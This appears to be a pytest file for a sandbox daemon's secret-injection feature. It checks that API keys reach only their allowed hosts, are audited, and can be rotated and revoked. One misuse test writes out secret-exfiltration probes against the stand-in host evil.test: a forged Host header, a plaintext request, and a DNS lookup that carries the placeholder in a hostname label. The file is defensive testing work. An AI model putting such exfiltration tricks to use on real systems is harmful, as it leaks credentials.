"""Secrets through cordond: `secrets` at create puts a placeholder in the sandbox's
environment and the real value in cordond's and cordon-egress's memory only; the proxy
substitutes it towards the secret's hosts (the fake internet's TLS API, whose certificate
the proxy trusts through CORDON_EGRESS_UPSTREAM_CA and the sandbox does not); a placeholder
anywhere else is refused and audited as secret.misuse; PUT rotates (same placeholder, new
value) and DELETE revokes, from the next request on; the value is in no answer, log, audit
record, state database or metric."""

import json
import os
import secrets
import sqlite3

import pytest

from conftest import HERE, PY, wait_until
from test_daemon_egress import CORDOND, Daemon

VALUE = "sk-daemon-" + secrets.token_hex(16)
CLIENT = "/home/user/secretclient.py"
OUT = "/tmp/res.json"  # skipped by "world"


def answering(d):
    """@d once it answers /healthz (its socket file exists a moment before it listens)."""
    def ok():
        try:
            return d.call("GET", "/healthz")[0] == 200
        except OSError:
            return False
    assert wait_until(ok, 15), d.tail()
    return d


@pytest.fixture
def sd(net, monkeypatch):
    if not os.path.exists(CORDOND):
        pytest.skip(f"{CORDOND} not built")
    monkeypatch.setenv("CORDON_EGRESS_UPSTREAM_CA", net.ca)  # inherited by cordond's proxy
    d = answering(Daemon(net))
    yield d
    d.stop()


def make(d, secrets_body, status=201, **extra):
    body = dict({"secrets": secrets_body}, **extra)
    st, out = d.call("POST", "/v1/sandboxes", body)
    assert st == status, (st, out, d.tail())
    return json.loads(out)


def put_client(d, sid):
    with open(os.path.join(HERE, "secretclient.py"), "rb") as f:
        st, out = d.call("PUT", f"/v1/sandboxes/{sid}/files?path={CLIENT}", raw=f.read())
    assert st == 200, out


def run(d, sid, ops):
    """The probes' results (written to a file in the sandbox: "world" is larger than an
    exec's output) and every byte the sandbox's answers held."""
    st, out = d.call("POST", f"/v1/sandboxes/{sid}/exec",
                     {"argv": ["/bin/sh", "-c", f'{PY} {CLIENT} "$0" > {OUT}', json.dumps(ops)],
                      "timeout_s": 60})
    assert st == 200, out
    r = json.loads(out)
    assert r["exit_code"] == 0, (r.get("stderr"), r.get("stdout"))
    st, res = d.call("GET", f"/v1/sandboxes/{sid}/files?path={OUT}")
    assert st == 200, res
    return json.loads(res), out + res


def api_seen(net, mark, path):
    return [x for x in net.seen(mark) if x.get("path", "").split("?")[0] == path]


def audit(d, sid):
    st, out = d.call("GET", f"/v1/sandboxes/{sid}/audit")
    assert st == 200
    return out.decode()


def everything_written(d):
    """Every byte cordond wrote to disk: its log, audit logs, state database (dumped)."""
    blobs = []
    for root, _, names in os.walk(d.root):
        for n in names:
            p = os.path.join(root, n)
            if os.path.isfile(p) and not n.endswith((".img", ".key")):
                with open(p, "rb") as f:
                    blobs.append(f.read())
    db = os.path.join(d.root, "state", "state.db")
    if os.path.exists(db):
        c = sqlite3.connect(db)
        blobs.append(repr(list(c.execute("SELECT * FROM sandboxes"))).encode())
        c.close()
    return b"\n".join(blobs)


def test_the_key_reaches_the_api_and_never_the_sandbox(sd, net):
    sb = make(sd, {"API_KEY": {"value": VALUE, "hosts": ["api.example.test"]}})
    sid = sb["id"]
    assert sb["secrets"] == [{"name": "API_KEY", "hosts": ["api.example.test"], "in": ["header"]}], sb
    assert VALUE not in json.dumps(sb)
    assert sb["network"] == {"policy": "allow", "allow": ["api.example.test:443"]}, sb
    put_client(sd, sid)
    m = net.mark()
    path = f"/v1/d-{secrets.token_hex(4)}"
    res, raw = run(sd, sid, [{"op": "req", "path": path, "headers": {"Authorization": "Bearer {PH}"}},
                             {"op": "world", "max": 1 << 18, "skip": [OUT]}])
    req, world = res
    assert req["reached"], req
    seen = api_seen(net, m, path)
    assert len(seen) == 1 and seen[0]["authorization"] == f"Bearer {VALUE}", seen
    ph = world["env"]["API_KEY"]
    assert ph.startswith("cordon-secret-") and ph != VALUE, ph
    assert VALUE.encode() not in raw, "the real value is visible inside the sandbox"
    for v in ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "NODE_EXTRA_CA_CERTS"):
        assert world["env"][v] == "/etc/ssl/certs/ca-certificates.crt", world["env"]
    with open(os.path.join(sd.root, "state", "egress-ca", "ca.crt")) as f:
        assert f.read().strip() in world["files"]["/etc/ssl/certs/ca-certificates.crt"]
    # Shown: names and hosts; never the value nor the placeholder.
    info = sd.json("GET", f"/v1/sandboxes/{sid}")
    assert info["secrets"][0]["name"] == "API_KEY" and VALUE not in json.dumps(info) and ph not in json.dumps(info)
    lst = sd.call("GET", "/v1/sandboxes")[1]
    assert VALUE.encode() not in lst and ph.encode() not in lst
    log = audit(sd, sid)
    create = [json.loads(l) for l in log.splitlines() if '"sandbox.create"' in l][0]
    assert create["fields"]["secrets"][0]["name"] == "API_KEY", create
    # Each substitution is recorded: the secret and the host, never the value.
    uses = [json.loads(l)["fields"] for l in log.splitlines() if '"secret.use"' in l]
    assert len(uses) == 1 and uses[0]["secret"] == "API_KEY" and uses[0]["host"] == "api.example.test" \
        and uses[0]["port"] == 443, uses
    metrics = sd.call("GET", "/metrics")[1]
    sd.call("DELETE", f"/v1/sandboxes/{sid}")
    written = everything_written(sd)
    for where, blob in (("audit/log/state", written), ("metrics", metrics)):
        assert VALUE.encode() not in blob, f"the value is in {where}"
        assert ph.encode() not in blob, f"the placeholder is in {where}"


def test_misuse_is_refused_and_audited(sd, net):
    sb = make(sd, {"API_KEY": {"value": VALUE, "hosts": ["api.example.test"]}},
              network={"policy": "allow", "allow": ["api.example.test", "evil.test"]})
    sid = sb["id"]
    put_client(sd, sid)
    m = net.mark()
    t = secrets.token_hex(4)
    auth = {"Authorization": "Bearer {PH}"}
    res, _ = run(sd, sid, [
        {"op": "req", "tls": False, "sni": "api.example.test", "port": 80, "path": f"/plain-{t}", "headers": auth},
        {"op": "req", "sni": "api.example.test", "host": "evil.test", "path": f"/forged-{t}", "headers": auth},
        {"op": "resolve", "name": "{PH}.evil.test"},
    ])
    plain, forged, dns = res
    assert not plain["reached"] and not forged["reached"] and not dns["resolved"], res
    assert forged["status_line"].startswith("HTTP/1.1 403"), forged
    assert not [x for x in net.seen(m) if t in json.dumps(x)]
    recs = [json.loads(l) for l in audit(sd, sid).splitlines() if '"secret.misuse"' in l]
    assert len(recs) >= 3, recs
    assert all(r["fields"]["secret"] == "API_KEY" for r in recs), recs
    assert VALUE not in json.dumps(recs)
    metrics = sd.call("GET", "/metrics")[1].decode()
    n = [l for l in metrics.splitlines() if l.startswith("cordon_secret_misuse_total ")]
    assert n and float(n[0].split()[1]) >= 3, n


def test_rotation_and_revocation_take_effect_on_the_next_request(sd, net):
    sb = make(sd, {"API_KEY": {"value": VALUE, "hosts": ["api.example.test"]}})
    sid = sb["id"]
    put_client(sd, sid)
    probe = lambda p: [{"op": "req", "path": p, "headers": {"Authorization": "Bearer {PH}"}},
                       {"op": "world", "max": 1 << 18, "skip": [OUT]}]
    m = net.mark()
    p1 = f"/v1/r1-{secrets.token_hex(4)}"
    res, _ = run(sd, sid, probe(p1))
    ph = res[1]["env"]["API_KEY"]
    new = "sk-rotated-" + secrets.token_hex(12)
    got = sd.json("PUT", f"/v1/sandboxes/{sid}/secrets/API_KEY", {"value": new})
    assert got == {"name": "API_KEY", "hosts": ["api.example.test"], "in": ["header"]}, got
    p2 = f"/v1/r2-{secrets.token_hex(4)}"
    res, _ = run(sd, sid, probe(p2))
    assert res[1]["env"]["API_KEY"] == ph, "rotation keeps the placeholder"
    assert api_seen(net, m, p1)[0]["authorization"] == f"Bearer {VALUE}"
    assert api_seen(net, m, p2)[0]["authorization"] == f"Bearer {new}"
    st, _ = sd.call("DELETE", f"/v1/sandboxes/{sid}/secrets/API_KEY")
    assert st == 204
    p3 = f"/v1/r3-{secrets.token_hex(4)}"
    res, _ = run(sd, sid, probe(p3))
    # Revoked: the placeholder is only a string now; nothing puts a value in its place.
    seen = api_seen(net, m, p3)
    assert all(VALUE not in json.dumps(x) and new not in json.dumps(x) for x in seen), seen
    assert sd.json("GET", f"/v1/sandboxes/{sid}").get("secrets") == []
    st, out = sd.call("DELETE", f"/v1/sandboxes/{sid}/secrets/API_KEY")
    assert st == 404 and b"not_found" in out
    log = audit(sd, sid)
    changes = [json.loads(l)["fields"] for l in log.splitlines() if '"policy.change"' in l]
    assert [(c["action"], c["name"]) for c in changes if c["kind"] == "secret"] == \
        [("rotate", "API_KEY"), ("revoke", "API_KEY")], changes
    # Two requests got a value (before and after the rotation); none after the revocation.
    assert len([l for l in log.splitlines() if '"secret.use"' in l]) == 2, log
    assert VALUE not in log and new not in log


BAD = [
    ({"1BAD": {"value": "v", "hosts": ["a.test"]}}, "invalid_field"),
    ({"K": {"value": "", "hosts": ["a.test"]}}, "invalid_field"),
    ({"K": {"value": "x" * 4097, "hosts": ["a.test"]}}, "invalid_field"),
    ({"K": {"value": "a\r\nb", "hosts": ["a.test"]}}, "invalid_field"),
    ({"K": {"value": "v"}}, "invalid_field"),
    ({"K": {"value": "v", "hosts": []}}, "invalid_field"),
    ({"K": {"value": "v", "hosts": ["10.0.0.1"]}}, "invalid_field"),
    ({"K": {"value": "v", "hosts": ["*.a.test"]}}, "invalid_field"),
    ({"K": {"value": "v", "hosts": ["a.test"] * 9}}, "invalid_field"),
    ({"K": {"value": "v", "hosts": ["a.test"], "in": ["cookie"]}}, "invalid_field"),
    ({"K": {"value": "v", "hosts": ["a.test"], "where": 1}}, "unknown_field"),
    ({f"K{i}": {"value": "v", "hosts": ["a.test"]} for i in range(17)}, "invalid_field"),
    (["K"], "invalid_field"),
]


@pytest.mark.parametrize("body,code", BAD)
def test_bad_secret_bodies_are_4xx(sd, body, code):
    secret_value = "SECRETVALUE-" + secrets.token_hex(6)
    if isinstance(body, dict):
        for v in body.values():
            if isinstance(v, dict) and v.get("value") == "v":
                v["value"] = secret_value
    st, out = sd.call("POST", "/v1/sandboxes", {"secrets": body})
    assert 400 <= st < 500 and code.encode() in out, (st, out)
    assert secret_value.encode() not in out, "an error message names the value"


def test_bad_rotation_bodies_are_4xx(sd):
    sb = make(sd, {"API_KEY": {"value": VALUE, "hosts": ["api.example.test"]}})
    sid = sb["id"]
    for name, body, st_want, code in (
            ("API_KEY", {}, 400, b"invalid_field"),
            ("API_KEY", {"value": "a\nb"}, 400, b"invalid_field"),
            ("API_KEY", {"value": "v", "hosts": ["1.2.3.4"]}, 400, b"invalid_field"),
            ("API_KEY", {"value": "v", "x": 1}, 400, b"unknown_field"),
            ("NOPE", {"value": "v"}, 404, b"not_found"),
            ("bad-name", {"value": "v"}, 400, b"invalid_field")):
        st, out = sd.call("PUT", f"/v1/sandboxes/{sid}/secrets/{name}", body)
        assert st == st_want and code in out, (name, body, st, out)
    st, out = sd.call("POST", "/v1/sandboxes", {"secrets": {"K": {"value": "v", "hosts": ["a.test"]}},
                                                "env": {"K": "x"}})
    assert st == 400 and b"also given in env" in out, out


def test_cordon_create_secret(sd, net):
    """`cordon create --secret NAME=VALUE@HOST` (cordon run's syntax), and NAME@HOST with the
    value in the CLI's own environment."""
    import subprocess
    from conftest import CORDON
    env = dict(os.environ, FROM_ENV=VALUE)
    p = subprocess.run([CORDON, "create", "--socket", sd.sock, "--json", "--secret",
                        f"API_KEY={VALUE}@api.example.test", "--secret", "FROM_ENV@Api.Example.Test"],
                       capture_output=True, timeout=60, env=env)
    assert p.returncode == 0, p.stderr
    sb = json.loads(p.stdout)
    assert VALUE.encode() not in p.stdout + p.stderr
    assert [s["name"] for s in sb["secrets"]] == ["API_KEY", "FROM_ENV"], sb
    assert sb["secrets"][1]["hosts"] == ["api.example.test"], sb
    put_client(sd, sb["id"])
    m = net.mark()
    path = f"/v1/cli-{secrets.token_hex(4)}"
    res, _ = run(sd, sb["id"], [{"op": "req", "path": path, "var": "FROM_ENV",
                                 "headers": {"X-Api-Key": "{PH}"}}])
    assert res[0]["reached"], res
    assert api_seen(net, m, path)[0]["x_api_key"] == VALUE
    for bad in ("K=v", "K=v@10.0.0.1", "NOPE_UNSET_X@a.test"):
        p = subprocess.run([CORDON, "create", "--socket", sd.sock, "--secret", bad],
                           capture_output=True, timeout=60)
        assert p.returncode == 2 and b"--secret" in p.stderr, (bad, p.stderr)


def test_sdk_secrets(sd, net):
    import sys
    from conftest import REPO
    sys.path.insert(0, os.path.join(REPO, "sdk", "python"))
    from cordon import Sandbox
    from cordon.errors import InvalidField, NotFound
    with pytest.raises(InvalidField):
        Sandbox.create(socket=sd.sock, secrets={"K": {"value": "v", "hosts": ["1.2.3.4"]}})
    with Sandbox.create(socket=sd.sock, secrets={"API_KEY": {"value": VALUE, "hosts": ["api.example.test"]}}) as sbx:
        assert sbx.info().secrets == [{"name": "API_KEY", "hosts": ["api.example.test"], "in": ["header"]}]
        new = "sk-sdk-" + secrets.token_hex(8)
        assert sbx.set_secret("API_KEY", new, where=["header", "query"])["in"] == ["header", "query"]
        put_client(sd, sbx.id)
        m = net.mark()
        path = f"/v1/sdk-{secrets.token_hex(4)}"
        res, _ = run(sd, sbx.id, [{"op": "req", "path": path + "?k={PH}"}])
        assert res[0]["reached"], res
        assert api_seen(net, m, path)[0]["query"] == f"k={new}"
        sbx.delete_secret("API_KEY")
        with pytest.raises(NotFound):
            sbx.delete_secret("API_KEY")
        with pytest.raises(NotFound):
            sbx.set_secret("API_KEY", "x")
